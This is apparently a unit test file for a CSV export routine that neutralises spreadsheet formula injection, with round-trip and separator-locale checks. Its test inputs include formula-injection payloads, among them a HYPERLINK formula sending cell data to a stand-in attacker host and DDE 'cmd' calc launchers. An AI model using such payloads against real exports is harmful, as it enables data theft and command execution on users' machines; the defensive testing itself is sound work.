import { describe, expect, it } from 'vitest';
import {
  csvField,
  formatCsvRecords,
  parseCsv,
  restoreFormula,
} from '../../src/main/engine/reports/csv';

// A cell a spreadsheet would run as a formula is written with a leading "'".
describe('CSV formula cells', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"open")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
    ],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
    ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
    ['\t=1+1', `"'\t'=1+1"`],
    ['\r=1+1', `"'\r'=1+1"`],
  ])('defuses %j', (value, written) => {
    expect(csvField(value)).toBe(written);
    const [record] = parseCsv(`${csvField(value)}\r\n`).records;
    expect(restoreFormula(record?.fields[0] ?? '')).toBe(value);
  });

  it.each(['-0.5', '+3', '-12', '1e-3', '-.25', '0.7', 'plain text', 'a=b', ''])(
    'leaves %j as it is',
    (value) => expect(csvField(value)).toBe(value),
  );

  it('defuses whole records', () => {
    expect(
      formatCsvRecords([
        ['rate', 'note'],
        ['-0.5', '=1+1'],
      ]),
    ).toBe("rate,note\r\n-0.5,'=1+1\r\n");
  });
});

// A spreadsheet in a semicolon locale, or an import dialog set to tab or comma, starts a new cell
// at any of these; a cell that then starts with = + - @ runs as a formula.
function cellsAsAnyLocaleSplitsThem(line: string): string[] {
  return line.split(/[;,\t\r\n]/).map((cell) => cell.replace(/^"+/, ''));
}

const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe('CSV formula cells behind a separator', () => {
  it.each([
    ['j;=1+1', `"j;'=1+1"`],
    ['d;@SUM(1+1)', `"d;'@SUM(1+1)"`],
    ['a,=1+1', `"a,'=1+1"`],
    ['a\t+cmd|" /C calc"!A0', `"a\t'+cmd|"" /C calc""!A0"`],
    ['=1;=2,@3', `"'=1;'=2,'@3"`],
    ['x;;=1', `"x;;'=1"`],
    ['note\n=1+1', `"note\n'=1+1"`],
    ['x;-0.5', '"x;-0.5"'],
    ['x;-cmd', `"x;'-cmd"`],
    ['a;b', '"a;b"'],
    ['a\tb', '"a\tb"'],
    ["'=1", `''=1`],
    ["j;'=1", `"j;''=1"`],
    ['x;\t=1', `"x;\t'=1"`],
  ])('writes %j as %s and reads it back', (value, written) => {
    expect(csvField(value)).toBe(written);
    const [record] = parseCsv(`${written}\r\n`).records;
    expect(restoreFormula(record?.fields[0] ?? '')).toBe(value);
  });

  it('leaves no piece of any record starting a formula, whatever the separator', () => {
    const values = ['j;=1+1', 'd;@SUM(1+1)', 'a,=b', 'x\t-y', '=a;+b,-c\t@d', 'ok;fine', '-0.5'];
    const text = formatCsvRecords([values]);
    for (const cell of cellsAsAnyLocaleSplitsThem(text)) {
      if (PLAIN_NUMBER.test(cell)) continue;
      expect(cell, `cell ${JSON.stringify(cell)} of ${JSON.stringify(text)}`).not.toMatch(
        /^[=+\-@]/,
      );
    }
  });

  it('reads back every value it wrote, quotes and separators included', () => {
    const alphabet = ["'", '=', '+', '-', '@', ';', ',', '\t', '\r', '\n', '"', 'a', '1', '.'];
    let seed = 7;
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed;
    };
    for (let round = 0; round < 2000; round += 1) {
      const length = next() % 9;
      const value = Array.from({ length }, () => alphabet[next() % alphabet.length]).join('');
      const [record] = parseCsv(`x,${csvField(value)}\r\n`).records;
      expect(restoreFormula(record?.fields[1] ?? ''), JSON.stringify(value)).toBe(value);
    }
  });
});
